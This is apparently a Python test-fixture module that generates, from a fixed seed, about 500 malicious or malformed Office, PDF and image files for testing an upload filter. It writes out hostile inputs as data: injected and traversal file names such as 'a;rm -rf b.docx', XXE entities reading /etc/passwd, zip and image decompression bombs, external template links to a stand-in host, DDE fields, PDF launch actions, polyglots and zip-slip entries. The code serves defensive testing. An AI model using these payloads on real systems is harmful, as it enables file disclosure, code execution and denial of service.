"""Files that mean harm, made from a seed: each is a name and what it holds."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator

import docx
import openpyxl
from PIL import Image

WORD, TABLE, PDF = "docx", "xlsx", "pdf"
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
ENTITY = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
NAMES = (
    "../../../etc/cron.d/a", "..\\..\\windows\\a", "/etc/passwd", "C:\\a.docx", "\x00a.docx", "a\x00.docx", "a.docx\r\nX: y",
    "\u202excod.exe", "a\u2066b.docx", "<svg onload=alert(1)>.docx", '"><script>alert(1)</script>.docx', "a" * 300 + ".docx",
    "CON", "....//....//a", "%2e%2e%2fa", "~/.ssh/id", "", " ", ".", "..", "a;rm -rf b.docx", "$(id).docx", "`id`.docx", "-rf",
)  # fmt: skip


def word(text: str = "Một dòng chữ.") -> bytes:
    out, book = io.BytesIO(), docx.Document()
    book.add_paragraph(text)
    book.save(out)
    return out.getvalue()


def table() -> bytes:
    out, book = io.BytesIO(), openpyxl.Workbook()
    book.active.append(["Nội dung", "=1+1"])
    book.save(out)
    return out.getvalue()


def picture() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (20, 20), "navy").save(out, "PNG")
    return out.getvalue()


def pdf(extra: bytes = b"") -> bytes:
    return (
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R"
        + extra
        + b">>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    )


def repacked(content: bytes, changed: dict[str, bytes]) -> bytes:
    """The same archive with parts replaced or added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in changed:
                new.writestr(name, old.read(name))
        for name, part in changed.items():
            new.writestr(name, part)
    return out.getvalue()


def part_of(content: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read(name)


def _related(content: bytes, part: str, kind: str, target: str) -> bytes:
    rels = part_of(content, part)
    new = f'<Relationship Id="rIdX" Type="{RELATION}{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    return repacked(content, {part: rels.replace(b"</Relationships>", new.encode())})


def _huge_picture(width: int, height: int) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"0" * 99)) + chunk(b"IEND", b"")


def _refused() -> Iterator[tuple[str, bytes]]:
    """What is to be refused, in words, whatever it is called."""
    book, sheet = word(), table()
    for size in (20, 60, 90):
        yield "bom.docx", repacked(book, {"word/media/a.bin": b"\0" * size * 1_000_000})
        yield "bom.xlsx", repacked(sheet, {"xl/media/a.bin": b"\0" * size * 1_000_000})
    yield "nhieu.docx", repacked(book, {f"word/a{n}.xml": b"<a/>" for n in range(5_200)})
    for target in ("http://ke-xau.example/m.dotm", "\\\\ke-xau\\m.dotm", "file:///c:/m.dotm"):
        for kind in ("attachedTemplate", "oleObject", "subDocument", "frame", "control", "aFChunk"):
            yield "mau.docx", _related(book, "word/_rels/document.xml.rels", kind, target)
    for place in (
        "word/vbaProject.bin",
        "word/VBAPROJECT.BIN",
        "customXml/vbaProject.bin",
        "word/activeX/activeX1.bin",
    ):
        yield "macro.docx", repacked(book, {place: b"x"})
    for place in ("xl/vbaProject.bin", "xl/activeX/activeX1.xml", "xl/macrosheets/sheet1.xml"):
        yield "macro.xlsx", repacked(sheet, {place: b"<a/>"})
    for content, parts in (
        (book, ("word/document.xml", "word/styles.xml", "_rels/.rels")),
        (sheet, ("xl/workbook.xml", "xl/styles.xml")),
    ):
        for part in parts:
            plain = part_of(content, part)
            head, _end, rest = plain.partition(b"?>")
            yield "thuc-the.docx", repacked(content, {part: head + b"?>" + ENTITY + rest})
            yield "thuc-the.docx", repacked(content, {part: head + b"?>" + b" " * 9000 + ENTITY + rest})
            wide = (ENTITY + rest).decode()
            yield "thuc-the.docx", repacked(content, {part: wide.encode("utf-16")})
    field = b"<w:r><w:instrText>%s c:\\\\a.exe</w:instrText></w:r></w:p>"
    for name in (b"DDEAUTO", b" DDE"):
        text = part_of(book, "word/document.xml").replace(b"</w:p>", field % name, 1)
        yield "dde.docx", repacked(book, {"word/document.xml": text})
    yield (
        "dde.xlsx",
        repacked(
            sheet, {"xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd"/></externalLink>'}
        ),
    )
    for width, height in ((50_000, 50_000), (2**31 - 1, 2**31 - 1), (1, 2**31 - 1)):
        yield "anh.png", _huge_picture(width, height)
    programs = (
        b"MZ\x90\0" + b"\0" * 300,
        b"\x7fELF\x02\x01\x01" + b"\0" * 300,
        b"\xca\xfe\xba\xbe" + b"\0" * 60,
        b"L\0\0\0\x01\x14\x02\0" + b"\0" * 90,
    )
    pages = (
        b"<svg onload=alert(1)>",
        b"<html><script>alert(1)</script>",
        b"\xef\xbb\xbf <!DOCTYPE html><a>",
        b"<?xml version='1.0'?><svg/>",
        b"{\\rtf1 {\\object}}",
    )
    for content in programs + pages:
        for ending in ("pdf", "docx", "xlsx", "png", "jpg", "txt", "csv"):
            yield f"noi-doi.{ending}", content


def _any(chance: random.Random) -> Iterator[tuple[str, bytes]]:
    """What may be taken or refused, but harms nobody either way."""
    book, sheet, image = word(), table(), picture()
    for content in (book, sheet, image, pdf(), b"xin chao", "Kính gửi".encode("utf-16")):
        for name in NAMES:
            yield name, content
    actions = (
        b"/JavaScript/JS(app.alert\\(1\\))",
        b"/Launch/F(cmd.exe)",
        b"/URI/URI(http://ke-xau.example)",
        b"/SubmitForm/F(http://ke-xau.example)",
    )
    for action in actions:
        yield "mo.pdf", pdf(b"/OpenAction<</S" + action + b">>")
    for content in (book, sheet, image, pdf()):
        for _round in range(18):
            yield "cut.docx", content[: chance.randrange(1, len(content))]
            changed = bytearray(content)
            for _place in range(chance.randrange(1, 40)):
                changed[chance.randrange(len(changed))] = chance.randrange(256)
            yield "doi.docx", bytes(changed)
    for front in (pdf(), image, b"GIF89a/*", b"xin chao "):
        for back in (book, b"<script>alert(1)</script>", b"MZ\x90\0", pdf()):
            yield "hai-mat.pdf", front + back
    deep = b"<a>" * 30_000 + b"</a>" * 30_000
    for part in (
        "word/document.xml",
        "word/styles.xml",
        "word/settings.xml",
        "word/numbering.xml",
        "docProps/core.xml",
    ):
        yield "sau.docx", repacked(book, {part: deep})
        yield "hong.docx", repacked(book, {part: b"<w:document><w:body>"})
        yield "rong.docx", repacked(book, {part: b""})
    for part in ("xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/styles.xml"):
        yield "sau.xlsx", repacked(sheet, {part: deep})
        yield "hong.xlsx", repacked(sheet, {part: b"<worksheet>"})
    for place in ("../../ra-ngoai.txt", "/ra-ngoai.txt", "word/../../../ra-ngoai.txt", "C:\\ra-ngoai.txt"):
        yield "duong.docx", repacked(book, {place: b"ra ngoai"})
        yield "duong.xlsx", repacked(sheet, {place: b"ra ngoai"})
    for _round in range(65):
        yield "bat-ky", bytes(chance.randrange(256) for _byte in range(chance.randrange(1, 400)))


def corpus() -> list[tuple[str, bytes, bool]]:
    """Return (name, content, is to be refused) of some 500 files, the same each time."""
    refused = [(name, content, True) for name, content in _refused()]
    return refused + [(name, content, False) for name, content in _any(random.Random(20260301))]  # noqa: S311 -- the same files each time
